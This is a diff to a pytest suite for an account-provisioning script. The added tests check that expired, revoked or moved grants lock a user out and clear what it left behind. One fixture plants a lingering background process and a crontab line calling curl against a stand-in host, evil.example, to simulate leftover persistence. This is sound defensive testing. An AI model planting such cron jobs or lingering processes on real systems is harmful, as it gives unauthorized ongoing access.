@@ -11,6 +11,7 @@ import os
 import shutil
 import subprocess
 import sys
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -35,20 +36,30 @@ def test_the_script_passes_shellcheck(tmp_path):
     assert result.returncode == 0, result.stdout
 
 
+NAMESPACES = ["unshare", "--mount", "--net", "--pid", "--fork", "--mount-proc", "--propagation", "private"]
+"""A private mount table, network stack and process table for each run."""
+
+
 class PrivateSystem:
     """A private /etc and /home in which shell commands run as root."""
 
     def __init__(self, root: Path) -> None:
         self.etc = root / "etc"
         self.home = root / "home"
+        self.spool = root / "spool"
         subprocess.run(["cp", "-a", "/etc", str(self.etc)], check=True)
         self.home.mkdir()
+        (self.spool / "cron" / "crontabs").mkdir(parents=True)
         self.script = root / "run-as-user.sh"
 
     def run(self, commands: str) -> subprocess.CompletedProcess[str]:
-        inner = f"mount --bind {self.etc} /etc && mount --bind {self.home} /home && {commands}"
+        # Its own process table too, so the script's pkill sees the namespace's processes only.
+        inner = (
+            f"mount --bind {self.etc} /etc && mount --bind {self.home} /home && mount --bind {self.spool} /var/spool"
+            f" && {commands}"
+        )
         return subprocess.run(
-            ["unshare", "--mount", "--net", "--propagation", "private", "bash", "-c", inner],
+            [*NAMESPACES, "bash", "-c", inner],
             capture_output=True,
             text=True,
             check=False,
@@ -57,6 +68,10 @@ class PrivateSystem:
     def run_script(self, user: str = USER, before: str = "true") -> subprocess.CompletedProcess[str]:
         self.script.write_text(run_as_user_script(user))
         return self.run(f"{before} && bash {self.script}")
+
+    def shadow_entry(self, user: str = USER) -> list[str]:
+        (line,) = [line for line in (self.etc / "shadow").read_text().splitlines() if line.startswith(f"{user}:")]
+        return line.split(":")
 
     def passwd_entry(self, user: str = USER) -> list[str]:
         (line,) = [line for line in (self.etc / "passwd").read_text().splitlines() if line.startswith(f"{user}:")]
@@ -235,3 +250,101 @@ def test_without_nft_the_user_is_never_made(instance):
 
 def test_the_script_is_one_file_the_association_runs_whole():
     assert run_as_user_script(USER).endswith(SCRIPT.read_text())
+
+
+# -- access ends on the instance: grant, revoke, move, expire ------------------------------------------
+
+PAST, FUTURE = datetime(2020, 1, 1, tzinfo=UTC), datetime(2099, 1, 1, tzinfo=UTC)
+LEFT_BEHIND = (
+    f"{{ (setpriv --reuid={USER} --regid={USER} --init-groups nohup sleep 600 >/dev/null 2>&1 &);"
+    f" echo '* * * * * curl evil.example' > /var/spool/cron/crontabs/{USER}; sleep 0.3; }}"
+)
+"""What a party leaves on the instance: a process that outlives its session, and a crontab."""
+COUNT_LEFT = f"echo processes=$(pgrep -c -u {USER} || true)"
+
+
+def scripts(system: PrivateSystem, **grants: datetime | None) -> dict[str, Path]:
+    """One converge script a grant (user -> expiry), as each party's association runs it."""
+    paths = {}
+    for user, expires in grants.items():
+        paths[user] = system.script.with_name(f"{user}.sh")
+        paths[user].write_text(run_as_user_script(user, expires))
+    return paths
+
+
+def locked_out(system: PrivateSystem, user: str = USER) -> bool:
+    _, password, *_, account_expiry, _ = system.shadow_entry(user)
+    return password.startswith("!") and account_expiry == "1" and system.passwd_entry(user)[6] == "/sbin/nologin"
+
+
+@needs_root
+def test_granted_user_is_usable_and_left_running(system):
+    script = scripts(system, **{USER: FUTURE})[USER]
+    result = system.run(f"bash {script} >/dev/null && {LEFT_BEHIND} && bash {script} >/dev/null && {COUNT_LEFT}")
+    assert result.returncode == 0, result.stderr
+    assert "processes=1" in result.stdout  # a granted user's own work is not touched
+    assert not locked_out(system)
+    assert system.passwd_entry()[6] == "/bin/bash"
+    assert (system.spool / "cron" / "crontabs" / USER).exists()
+
+
+@needs_root
+def test_moving_the_grant_to_another_party_locks_the_old_user_out_and_ends_what_it_left(system):
+    paths = scripts(system, **{USER: None, "third-party-b": None})
+    result = system.run(
+        f"bash {paths[USER]} >/dev/null && {LEFT_BEHIND} && bash {paths['third-party-b']} && {COUNT_LEFT}"
+    )
+    assert result.returncode == 0, result.stderr
+    assert f"{USER} is locked out" in result.stdout
+    assert "processes=0" in result.stdout
+    assert locked_out(system)
+    assert not (system.spool / "cron" / "crontabs" / USER).exists()
+    assert (system.home / USER).is_dir()  # kept, for your records
+    assert not locked_out(system, "third-party-b")
+
+
+@needs_root
+def test_revoking_a_party_locks_its_user_out_on_the_next_run_of_any_grant(system):
+    # The revoked party's association is gone; the instance's next grant (here, re-tagged to B) converges it.
+    paths = scripts(system, **{USER: FUTURE, "third-party-b": FUTURE})
+    result = system.run(
+        f"bash {paths[USER]} >/dev/null && {LEFT_BEHIND} && bash {paths['third-party-b']} >/dev/null && {COUNT_LEFT}"
+    )
+    assert result.returncode == 0, result.stderr
+    assert "processes=0" in result.stdout
+    assert locked_out(system)
+
+
+@needs_root
+def test_after_its_expiry_the_partys_own_run_locks_its_user_out(system):
+    before, after = system.script.with_name("before.sh"), system.script.with_name("after.sh")
+    before.write_text(run_as_user_script(USER, FUTURE))
+    after.write_text(run_as_user_script(USER, PAST))
+    result = system.run(f"bash {before} >/dev/null && {LEFT_BEHIND} && bash {after} && {COUNT_LEFT}")
+    assert result.returncode == 0, result.stderr
+    assert "access expired" in result.stdout
+    assert "processes=0" in result.stdout
+    assert locked_out(system)
+
+
+@needs_root
+def test_an_extended_grant_lets_the_user_in_again(system):
+    expired, extended = system.script.with_name("expired.sh"), system.script.with_name("extended.sh")
+    expired.write_text(run_as_user_script(USER, PAST))
+    extended.write_text(run_as_user_script(USER, FUTURE))
+    result = system.run(f"bash {expired} >/dev/null && bash {extended} >/dev/null")
+    assert result.returncode == 0, result.stderr
+    assert not locked_out(system)
+    assert system.passwd_entry()[6] == "/bin/bash"
+
+
+@needs_root
+def test_users_the_stack_did_not_make_are_never_touched(system):
+    result = system.run(
+        "useradd --create-home ops && (setpriv --reuid=ops --regid=ops --init-groups nohup sleep 600 >/dev/null 2>&1 &)"
+        f" && sleep 0.3 && bash {scripts(system, **{USER: PAST})[USER]} >/dev/null"
+        " && echo ops=$(pgrep -c -u ops || true)"
+    )
+    assert result.returncode == 0, result.stderr
+    assert "ops=1" in result.stdout
+    assert system.shadow_entry("ops")[7] == ""
